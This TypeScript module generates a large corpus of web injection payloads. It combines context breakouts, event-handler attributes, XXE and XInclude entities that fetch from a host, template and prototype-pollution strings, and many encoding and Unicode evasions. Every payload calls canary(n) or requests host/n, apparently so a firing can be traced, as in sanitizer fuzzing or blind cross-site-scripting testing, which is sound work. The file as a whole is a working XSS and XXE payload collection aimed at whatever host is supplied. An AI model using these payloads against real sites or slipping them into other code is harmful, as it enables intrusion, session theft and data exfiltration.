// The corpus: what would run or load something, each out of whatever it may stand in, each in many spellings.

import { ADDRESSES, MUTATIONS, TAGS } from './vectors.ts'

/** What ends the place that a text stands in, in HTML, XML, JSON, CSS and a header. */
const WAYS_OUT: readonly string[] = [
  '"',
  "'",
  '`',
  '">',
  "'>",
  '"/>',
  '">-->',
  '\\">',
  '\\',
  '&quot;>',
  '&#34;>',
  '-->',
  '--!>',
  ']]>',
  ']]]]><![CDATA[>',
  '?>',
  '%>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</script >',
  '</SCRIPT/x>',
  '"}</script>',
  '<!--<script>',
  '<!--<script></script>--></script>',
  '\\u003c/script>',
  '\u2028</script>',
  '</noscript>',
  '</template>',
  '</select></option>',
  '</svg></math>',
  '</p></h1></a></div>',
  '</time></span>',
  '</figcaption></figure>',
  '</title></channel></rss>',
  '</description></item>',
  ']]></content:encoded></item>',
  ']]></content></entry></feed>',
  '</at:comment></at:deleted-entry>',
  '</news:title></news:news></url></urlset>',
  '"/></body></opml>',
  '</ShortName></OpenSearchDescription>',
  '*/}</style>',
  '\\a ";}</style>',
  '\r\n\r\n',
  '\r\nContent-Type: text/html\r\n\r\n',
  '>; rel="x", <',
  '\n---\n',
  '\u0000">',
  '\u0338">',
]

/** Inside a tag, where nobody can leave it. */
const ATTRIBUTES: readonly string[] = ['"', "'", '`', '" ', "' ", '\u000C', '"\u000B', '/'].flatMap(
  (quote) => [
    `${quote} autofocus tabindex=1 onfocus=CALL x=${quote.trim()}`,
    `${quote} onerror=CALL src=x: x=${quote.trim()}`,
    `${quote} style=background:url(//HOST) x=${quote.trim()}`,
  ],
)

/** Not markup at all, and yet something to some program. */
const ODDITIES: readonly string[] = [
  '<?xml-stylesheet type="text/xsl" href="//HOST"?>',
  '<?xml-stylesheet type="text/css" href="//HOST"?>',
  '<?xml version="1.0" encoding="utf-7"?>',
  '<?php CALL ?>',
  '<% CALL %>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "//HOST">]><x>&e;</x>',
  '<!DOCTYPE x SYSTEM "//HOST">',
  '<!ENTITY % p SYSTEM "//HOST"> %p;',
  '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="//HOST"/>',
  '<xsl:script xmlns:xsl="http://www.w3.org/1999/XSL/Transform">CALL</xsl:script>',
  '&e;&nbsp;&#0;&#xD800;&#xFFFE;&#x110000;',
  '&lt;script&gt;CALL&lt;/script&gt;',
  '&amp;lt;script&amp;gt;CALL&amp;lt;/script&amp;gt;',
  '+ADw-script+AD4-CALL+ADw-/script+AD4-',
  '+/v8-+ADw-script+AD4-CALL+ADw-/script+AD4-',
  '¼script¾CALL¼/script¾',
  '\u001B$B<script>CALL</script>',
  '\u001B(J\\"><script>CALL</script>',
  '\uD83D<script>CALL</script>\uDE00',
  '<\uD800script>CALL</script>',
  '<script>CALL//\u2028CALL//\u2029</script>',
  '\u202E>tpircs/<CALL>tpircs<',
  '\u2067<img src=x: onerror=CALL>\u2066',
  '\uFEFF<script>CALL</script>',
  "{{constructor.constructor('CALL')()}}",
  '${CALL}',
  '#{CALL}',
  '{%raw%}CALL',
  '[x](javascript:CALL)',
  '![x](//HOST)',
  '<javascript:CALL>',
  "');CALL;//",
  '";CALL;//',
  '\\";CALL;//',
  '"-CALL-"',
  'expression(CALL)',
  'url(//HOST)',
  '@import "//HOST";',
  '"};CALL;{"',
  '"__proto__":{"x":CALL}',
  '\uFDD1script\uFDD2CALL\uFDD1/script\uFDD2',
  '\uFDD0lt;script\uFDD0gt;CALL',
  "$&$`$'$1<$<x>",
  '＜script＞CALL＜／script＞',
  '〈script〉CALL〈/script〉',
  '‹script›CALL‹/script›',
  '﹤script﹥CALL﹤/script﹥',
  'ʺ＂＇ʹ onfocus=CALL autofocus',
  '<ſcript>CALL</ſcript>',
  '<scrıpt>CALL</scrıpt>',
]

const references = (text: string, write: (code: number) => string): string =>
  text.replace(/[<>"'&/=:]/g, (character) => write(character.charCodeAt(0)))
const inTags = (text: string, change: (name: string) => string): string =>
  text.replace(/(?<=<\/?)[a-z]+|\bon[a-z]+(?==)/g, change)

/** The same otherwise spelt: by HTML, by an address, by a script, by who wants it not to be seen. */
const SPELLINGS: readonly ((text: string) => string)[] = [
  (text) => inTags(text, (name) => name.toUpperCase()),
  (text) =>
    inTags(text, (name) =>
      name.replace(/.(.?)/g, (two) => two.charAt(0).toUpperCase() + two.slice(1)),
    ),
  (text) => references(text, (code) => `&#${code};`),
  (text) => references(text, (code) => `&#${code}`),
  (text) => references(text, (code) => `&#x${code.toString(16)};`),
  (text) => references(text, (code) => `&#X000${code.toString(16)}`),
  (text) => references(text, (code) => `&amp;#${code};`),
  (text) => encodeURIComponent(text),
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => references(text, (code) => String.raw`\u${code.toString(16).padStart(4, '0')}`),
  (text) => references(text, (code) => String.raw`\x${code.toString(16)}`),
  (text) => references(text, (code) => `\\${code.toString(8)}`),
  (text) => text.replaceAll('<', '<\u0000'),
  (text) => inTags(text, (name) => `${name.slice(0, 2)}\u0000${name.slice(2)}`),
  (text) => text.replaceAll('<', '<\n'),
  (text) => text.replace(/(<[a-z]+) /g, '$1/'),
  (text) => text.replace(/(<[a-z]+) /g, '$1\n\t'),
  (text) => text.replace(/(<[a-z]+) /g, '$1\f'),
  (text) => text.replace(/(<[a-z]+) /g, '$1\u000B'),
  (text) => text.replace(/(<[a-z]+) /g, '$1\u0085'),
  (text) => text.replace(/(<[a-z]+) /g, '$1\u2028'),
  (text) => text.replaceAll('=', '\u0000='),
  (text) => text.replaceAll('=', ' \n= '),
  (text) => text.replaceAll('<', '<<'),
  (text) => text.replaceAll('>', ''),
  (text) => text.replaceAll('<', '\u202E<').replaceAll('>', '\u202C>'),
  (text) => text.replaceAll('<', '<\u200B'),
  (text) => text.replaceAll('<', '<\u0338').replaceAll('>', '>\u0338'),
  (text) => text.replaceAll('<', '\uD800<').replaceAll('>', '>\uDC00'),
  (text) => text.replace(/[!-~]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)),
  (text) => text.replaceAll('script', 'scr<script>ipt'),
  (text) => `1 23 ${text} 4.5`,
]

/** What each way out and each spelling is tried with: they run, load, and lead somewhere. */
const FIRST = TAGS.slice(0, 5)

const FORMS: readonly (readonly [vector: string, spell: (text: string) => string])[] = [
  ...TAGS,
  ...MUTATIONS,
  ...ATTRIBUTES,
  ...ODDITIES,
  ...ADDRESSES,
  ...ADDRESSES.map((address) => `<a href="${address}" autofocus onfocus=click()>x</a>`),
  ...WAYS_OUT.flatMap((way) => FIRST.map((tag) => way + tag)),
].map((vector) => [vector, (text: string) => text] as const)

const SPELT = SPELLINGS.flatMap((spell) => TAGS.slice(0, 7).map((tag) => [tag, spell] as const))

/**
 * Every payload of the corpus, no two of one form. The one at `n` calls `canary(n)` or asks `host` for `/n`, so
 * that whoever hears it knows which it was.
 */
export const payloadsFor = (host: string): readonly string[] => {
  const seen = new Set<string>()
  const forms = [...FORMS, ...SPELT].filter(([vector, spell]) => {
    const form = spell(vector)
    return !seen.has(form) && seen.add(form)
  })
  return forms.map(([vector, spell], n) =>
    spell(vector.replaceAll('CALL', `canary(${n})`).replaceAll('HOST', `${host}/${n}`)),
  )
}
